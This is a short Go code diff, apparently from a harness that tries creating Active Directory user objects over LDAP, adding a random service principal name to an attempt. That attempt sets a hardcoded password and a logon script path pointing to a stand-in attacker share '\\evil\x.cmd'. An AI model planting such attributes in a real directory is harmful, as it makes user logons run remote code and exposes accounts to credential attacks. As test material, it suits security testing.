@@ -85,6 +85,7 @@ var attempts = []attempt{
 		request := newObject(d.newDN("Managed"), "user", "512")
 		request.Attribute("unicodePwd", []string{string(utf16LE(`"Correct-Horse-7!"`))})
 		request.Attribute("scriptPath", []string{`\\evil\x.cmd`})
+		request.Attribute("servicePrincipalName", []string{"http/" + lower(randomText(12))})
 		return conn.Add(request)
 	}},
 }
